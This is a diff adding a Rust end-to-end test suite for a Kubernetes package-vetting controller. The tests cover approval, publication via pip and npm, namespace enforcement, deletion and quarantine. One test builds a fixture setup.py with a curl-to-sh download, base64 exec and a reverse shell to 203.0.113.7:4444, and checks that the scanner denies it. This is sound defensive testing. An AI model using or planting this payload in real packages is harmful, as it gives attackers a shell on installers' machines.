@@ -1,0 +1,399 @@
+//! The PackageRequest controller end to end: `airlock dev` with a local fixture upstream, driven
+//! by the real `kubectl`, installed from with the real `pip` and `npm`.
+
+mod common;
+
+use std::process::Command;
+use std::time::Duration;
+
+use common::archives::{self, TarEntry};
+use common::dev::{Dev, http_get, tmp, venv_tool};
+use common::registry::{Fault, FixtureRegistry};
+use serde_json::{Value, json};
+
+/// A policy that lets clean fixtures through on its own and asks a human about anything else.
+const POLICY_AND_REPOSITORIES: &str = r#"
+apiVersion: airlock.dev/v1alpha1
+kind: ScanPolicy
+metadata: {name: e2e}
+spec:
+  approvalMode: OnFindings
+  licenses: {allow: [MIT, Apache-2.0], otherwise: Review}
+  rescanInterval: 1s
+---
+apiVersion: airlock.dev/v1alpha1
+kind: PackageRepository
+metadata: {name: local}
+spec:
+  builtin: {}
+  policyRef: e2e
+  allowedNamespaces: [team-a]
+  deletionPolicy: Unlist
+  unlistOnQuarantine: true
+---
+apiVersion: airlock.dev/v1alpha1
+kind: PackageRepository
+metadata: {name: team-b-only}
+spec:
+  builtin: {}
+  policyRef: e2e
+  allowedNamespaces: [team-b]
+---
+apiVersion: v1
+kind: Namespace
+metadata: {name: team-a}
+"#;
+
+fn request(name: &str, ecosystem: &str, package: &str, version: &str, repo: &str) -> String {
+    format!(
+        "apiVersion: airlock.dev/v1alpha1\nkind: PackageRequest\nmetadata: {{name: {name}, namespace: team-a}}\nspec: {{ecosystem: {ecosystem}, name: \"{package}\", version: \"{version}\", repositoryRef: {repo}, justification: e2e}}\n"
+    )
+}
+
+fn fixture_wheel(reg: &FixtureRegistry, name: &str, version: &str) {
+    let module = name.replace('-', "_");
+    reg.add_wheel_with_metadata(
+        name,
+        &format!("{module}-{version}-py3-none-any.whl"),
+        archives::wheel(name, version, "ANSWER = 42\n"),
+        &archives::core_metadata(name, version),
+    );
+}
+
+fn fixture_npm(reg: &FixtureRegistry, name: &str, version: &str, license: &str) {
+    let manifest =
+        json!({"name": name, "version": version, "main": "index.js", "license": license});
+    reg.add_npm_version(
+        name,
+        version,
+        archives::npm_tarball(&manifest.to_string(), "module.exports = 'from airlock';\n"),
+        Fault::default(),
+        json!({"license": license}),
+    );
+}
+
+async fn start(name: &str, extra: &[&str]) -> (FixtureRegistry, Dev) {
+    let reg = FixtureRegistry::start().await;
+    let (pypi, npm) = (
+        format!("{}/simple/", reg.base()),
+        format!("{}/npm/", reg.base()),
+    );
+    let extra: Vec<String> = extra.iter().map(|s| s.to_string()).collect();
+    let name = format!("e2e-{name}");
+    let dev = tokio::task::spawn_blocking(move || {
+        let mut args = vec!["--pypi-index", &pypi, "--npm-registry", &npm];
+        args.extend(extra.iter().map(String::as_str));
+        let dev = Dev::start(&name, &args);
+        dev.apply(POLICY_AND_REPOSITORIES);
+        dev
+    })
+    .await
+    .expect("join");
+    (reg, dev)
+}
+
+fn condition<'a>(r: &'a Value, type_: &str) -> &'a Value {
+    r["status"]["conditions"]
+        .as_array()
+        .and_then(|cs| cs.iter().find(|c| c["type"] == type_))
+        .unwrap_or(&Value::Null)
+}
+
+/// kstatus as Flux and Argo CD compute it from these conditions.
+fn kstatus(r: &Value) -> &'static str {
+    if r["status"]["observedGeneration"] != r["metadata"]["generation"] {
+        return "InProgress";
+    }
+    let is = |t: &str| condition(r, t)["status"] == "True";
+    if is("Reconciling") {
+        "InProgress"
+    } else if is("Stalled") {
+        "Failed"
+    } else if is("Ready") {
+        "Current"
+    } else {
+        "InProgress"
+    }
+}
+
+fn run(cmd: &mut Command) -> std::process::Output {
+    cmd.output().expect("command runs")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn clean_requests_publish_and_install_with_pip_and_npm() {
+    let (reg, dev) = start("clean", &[]).await;
+    fixture_wheel(&reg, "tidy-lib", "1.0.0");
+    fixture_npm(&reg, "tidy-js", "2.0.0", "MIT");
+    tokio::task::spawn_blocking(move || {
+        dev.apply(&request("tidy-lib", "pypi", "tidy-lib", "1.0.0", "local"));
+        dev.apply(&request("tidy-js", "npm", "tidy-js", "2.0.0", "local"));
+        for name in ["tidy-lib", "tidy-js"] {
+            let out = dev.kubectl(
+                &[
+                    "wait",
+                    "--for=condition=Ready",
+                    &format!("pkgreq/{name}"),
+                    "-n",
+                    "team-a",
+                    "--timeout=60s",
+                ],
+                None,
+            );
+            assert!(
+                out.status.success(),
+                "kubectl wait {name}: {}\n{}",
+                String::from_utf8_lossy(&out.stderr),
+                dev.log()
+            );
+            let r = dev.request("team-a", name);
+            assert_eq!(r["status"]["phase"], "Published");
+            assert_eq!(kstatus(&r), "Current");
+            assert_eq!(condition(&r, "Approved")["reason"], "PolicyApproved");
+            assert_eq!(condition(&r, "Denied"), &Value::Null, "never both");
+            assert_eq!(r["status"]["decision"]["verdict"], "Approved");
+            let files = r["status"]["files"].as_array().expect("files");
+            assert_eq!(files.len(), 1);
+            assert_eq!(files[0]["sha256"].as_str().map(str::len), Some(64));
+            assert_eq!(r["status"]["publication"]["repository"], "local");
+            assert!(
+                r["metadata"]["finalizers"]
+                    .to_string()
+                    .contains("airlock.dev/")
+            );
+            let reasons = dev.event_reasons("team-a", name);
+            for want in ["Accepted", "Fetched", "Approved", "Published"] {
+                assert!(
+                    reasons.iter().any(|r| r == want),
+                    "{name}: event {want} in {reasons:?}"
+                );
+            }
+        }
+        let out = dev.kubectl(&["describe", "pkgreq", "tidy-lib", "-n", "team-a"], None);
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            text.contains("Published"),
+            "kubectl describe shows the events: {text}"
+        );
+
+        // The real clients install what was published.
+        let dir = tmp("e2e-install");
+        let pip = venv_tool("pip").map(Command::new).unwrap_or_else(|| {
+            let mut c = Command::new("python3");
+            c.args(["-m", "pip"]);
+            c
+        });
+        let mut pip = pip;
+        let out = run(pip
+            .args([
+                "install",
+                "--no-deps",
+                "--no-cache-dir",
+                "--disable-pip-version-check",
+                "--index-url",
+                dev.var("PIP_INDEX_URL"),
+                "--target",
+            ])
+            .arg(dir.join("site"))
+            .arg("tidy-lib==1.0.0"));
+        assert!(
+            out.status.success(),
+            "pip: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert_eq!(
+            std::fs::read_to_string(dir.join("site/tidy_lib/__init__.py")).expect("installed"),
+            "ANSWER = 42\n"
+        );
+        let project = dir.join("project");
+        std::fs::create_dir_all(&project).expect("dir");
+        std::fs::write(
+            project.join("package.json"),
+            r#"{"name":"consumer","version":"1.0.0","private":true}"#,
+        )
+        .expect("write");
+        let out = run(Command::new("npm")
+            .args([
+                "install",
+                "--no-audit",
+                "--no-fund",
+                "--registry",
+                dev.var("NPM_CONFIG_REGISTRY"),
+                "--cache",
+            ])
+            .arg(dir.join("npm-cache"))
+            .arg("tidy-js@2.0.0")
+            .current_dir(&project));
+        assert!(
+            out.status.success(),
+            "npm: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert_eq!(
+            std::fs::read_to_string(project.join("node_modules/tidy-js/index.js"))
+                .expect("installed"),
+            "module.exports = 'from airlock';\n"
+        );
+    })
+    .await
+    .expect("join");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_malicious_setup_py_is_denied_and_nothing_is_published() {
+    let (reg, dev) = start("evil", &[]).await;
+    let setup = "import base64, os, socket, subprocess\nfrom setuptools import setup\nos.system('curl -s http://203.0.113.7/stage2.sh | sh')\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\ns = socket.socket(); s.connect(('203.0.113.7', 4444)); subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\nsetup(name='evil-pkg', version='1.0.0')\n";
+    let sdist = archives::tar_gz(&[
+        TarEntry::file(
+            "evil_pkg-1.0.0/PKG-INFO",
+            archives::core_metadata("evil-pkg", "1.0.0").as_bytes(),
+        ),
+        TarEntry::file("evil_pkg-1.0.0/setup.py", setup.as_bytes()),
+    ]);
+    reg.add_pypi_file(
+        "evil-pkg",
+        "evil_pkg-1.0.0.tar.gz",
+        sdist,
+        Fault::default(),
+        json!({}),
+    );
+    tokio::task::spawn_blocking(move || {
+        dev.apply(&request("evil-pkg", "pypi", "evil-pkg", "1.0.0", "local"));
+        let r = dev.wait_phase("team-a", "evil-pkg", "Rejected");
+        assert_eq!(kstatus(&r), "Failed");
+        assert_eq!(condition(&r, "Denied")["status"], "True");
+        assert_eq!(condition(&r, "Denied")["reason"], "PolicyDenied");
+        assert_eq!(condition(&r, "Approved"), &Value::Null, "never both");
+        assert_eq!(condition(&r, "Ready")["status"], "False");
+        let decision = &r["status"]["decision"];
+        assert_eq!(decision["verdict"], "Denied");
+        let findings = decision["findings"].as_array().expect("findings");
+        assert!(
+            findings.iter().any(
+                |f| f["file"].as_str().is_some_and(|p| p.ends_with("setup.py"))
+                    && f["rule"]
+                        .as_str()
+                        .is_some_and(|r| r.starts_with("heuristics."))
+            ),
+            "the deciding rule and file are in status: {decision}"
+        );
+        assert!(
+            condition(&r, "Stalled")["message"]
+                .as_str()
+                .unwrap_or("")
+                .contains("nothing was published")
+        );
+        assert!(r["status"].get("publication").is_none());
+        let (code, _) = http_get(&format!("{}evil-pkg/", dev.var("PIP_INDEX_URL")));
+        assert_eq!(code, 404, "nothing published");
+        assert!(
+            dev.event_reasons("team-a", "evil-pkg")
+                .iter()
+                .any(|r| r == "Denied")
+        );
+    })
+    .await
+    .expect("join");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn on_findings_waits_for_an_approver_and_namespaces_are_enforced() {
+    let (reg, dev) = start("approve", &[]).await;
+    fixture_npm(&reg, "odd-licence", "1.0.0", "WTFPL");
+    fixture_wheel(&reg, "tidy-lib", "1.0.0");
+    tokio::task::spawn_blocking(move || {
+        dev.apply(&request("odd-licence", "npm", "odd-licence", "1.0.0", "local"));
+        let r = dev.wait_phase("team-a", "odd-licence", "AwaitingApproval");
+        assert_eq!(kstatus(&r), "InProgress", "waiting on a human is in progress, not failed");
+        assert_eq!(condition(&r, "Reconciling")["reason"], "AwaitingApproval");
+        let msg = condition(&r, "Reconciling")["message"].as_str().unwrap_or("").to_string();
+        assert!(msg.contains("airlock approve odd-licence -n team-a"), "{msg}");
+        assert_eq!(r["status"]["decision"]["findings"][0]["rule"], "license.not-allowed");
+        assert_eq!(condition(&r, "Approved"), &Value::Null);
+        // Still waiting a moment later: nothing moves without a human.
+        std::thread::sleep(Duration::from_secs(2));
+        assert_eq!(dev.request("team-a", "odd-licence")["status"]["phase"], "AwaitingApproval");
+
+        let out = Command::new(common::dev::airlock_bin())
+            .args(["approve", "odd-licence", "-n", "team-a", "--reason", "WTFPL reviewed by legal (LEG-7)"])
+            .env("KUBECONFIG", dev.var("KUBECONFIG"))
+            .output()
+            .expect("airlock approve");
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        let r = dev.wait_phase("team-a", "odd-licence", "Published");
+        assert_eq!(kstatus(&r), "Current");
+        assert_eq!(condition(&r, "Approved")["reason"], "ApprovedByUser");
+        let decision = &r["status"]["decision"];
+        assert_eq!(decision["verdict"], "Approved");
+        assert_eq!(decision["decidedBy"], "Approver");
+        assert_eq!(decision["approver"], "airlock-dev");
+        assert_eq!(decision["reason"], "WTFPL reviewed by legal (LEG-7)");
+
+        // A repository that does not list the request's namespace.
+        dev.apply(&request("sneaky", "pypi", "tidy-lib", "1.0.0", "team-b-only"));
+        let r = dev.wait_for("team-a", "sneaky", Duration::from_secs(30), "stalled", |r| {
+            condition(r, "Stalled")["status"] == "True"
+        });
+        assert_eq!(kstatus(&r), "Failed");
+        assert_eq!(condition(&r, "Stalled")["reason"], "NamespaceNotAllowed");
+        let msg = condition(&r, "Stalled")["message"].as_str().unwrap_or("");
+        assert!(msg.contains("team-b-only") && msg.contains("team-a") && msg.contains("allowedNamespaces"), "{msg}");
+        assert!(r["status"].get("publication").is_none());
+
+        // The repository's owner adds the namespace: the request goes through without a new one.
+        dev.apply("apiVersion: airlock.dev/v1alpha1\nkind: PackageRepository\nmetadata: {name: team-b-only}\nspec:\n  builtin: {}\n  policyRef: e2e\n  allowedNamespaces: [team-b, team-a]\n");
+        let r = dev.wait_phase("team-a", "sneaky", "Published");
+        assert_eq!(kstatus(&r), "Current");
+    })
+    .await
+    .expect("join");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn deletion_applies_the_policy_and_a_new_advisory_quarantines() {
+    let advisories = tmp("e2e-osv");
+    let adv = advisories.to_string_lossy().into_owned();
+    let (reg, dev) = start("delete", &["--advisories", &adv]).await;
+    fixture_wheel(&reg, "tidy-lib", "1.0.0");
+    fixture_wheel(&reg, "later-bad", "3.1.0");
+    tokio::task::spawn_blocking(move || {
+        // Deleting applies the repository's deletion policy (Unlist): pip can no longer see it.
+        dev.apply(&request("tidy-lib", "pypi", "tidy-lib", "1.0.0", "local"));
+        dev.wait_phase("team-a", "tidy-lib", "Published");
+        let index = format!("{}tidy-lib/", dev.var("PIP_INDEX_URL"));
+        let (code, body) = http_get(&index);
+        assert_eq!(code, 200);
+        assert!(body.contains("tidy_lib-1.0.0-py3-none-any.whl"), "{body}");
+        let out = dev.kubectl(&["delete", "pkgreq", "tidy-lib", "-n", "team-a", "--timeout=30s"], None);
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        assert!(dev.get_json(&["pkgreq", "tidy-lib", "-n", "team-a"]).is_none(), "the finalizer let go");
+        let (_, body) = http_get(&index);
+        assert!(!body.contains("tidy_lib-1.0.0-py3-none-any.whl"), "unlisted: {body}");
+        assert!(dev.event_reasons("team-a", "tidy-lib").iter().any(|r| r == "DeletionPolicyApplied"));
+
+        // A published package that a later advisory marks malicious is quarantined and unlisted.
+        dev.apply(&request("later-bad", "pypi", "later-bad", "3.1.0", "local"));
+        let r = dev.wait_phase("team-a", "later-bad", "Published");
+        let first_scan = r["status"]["lastScanTime"].clone();
+        std::thread::sleep(Duration::from_millis(1500));
+        let record = json!({
+            "schema_version": "1.6.0", "id": "MAL-2026-4242", "modified": "2026-11-01T00:00:00Z",
+            "summary": "Malicious code in later-bad (PyPI)",
+            "affected": [{"package": {"ecosystem": "PyPI", "name": "later-bad"}, "versions": ["3.1.0"]}],
+        });
+        let tmp_file = advisories.join(".MAL-2026-4242.json.tmp");
+        std::fs::write(&tmp_file, record.to_string()).expect("write");
+        std::fs::rename(&tmp_file, advisories.join("MAL-2026-4242.json")).expect("rename");
+        let r = dev.wait_phase("team-a", "later-bad", "Quarantined");
+        assert_ne!(r["status"]["lastScanTime"], first_scan);
+        assert_eq!(kstatus(&r), "Failed");
+        let msg = condition(&r, "Stalled")["message"].as_str().unwrap_or("").to_string();
+        assert!(msg.contains("MAL-2026-4242"), "{msg}");
+        assert_eq!(r["status"]["decision"]["verdict"], "Approved", "the decision itself is never rewritten");
+        let (_, body) = http_get(&format!("{}later-bad/", dev.var("PIP_INDEX_URL")));
+        assert!(!body.contains("later_bad-3.1.0"), "unlisted on quarantine: {body}");
+        assert!(dev.event_reasons("team-a", "later-bad").iter().any(|r| r == "Quarantined"));
+    })
+    .await
+    .expect("join");
+}
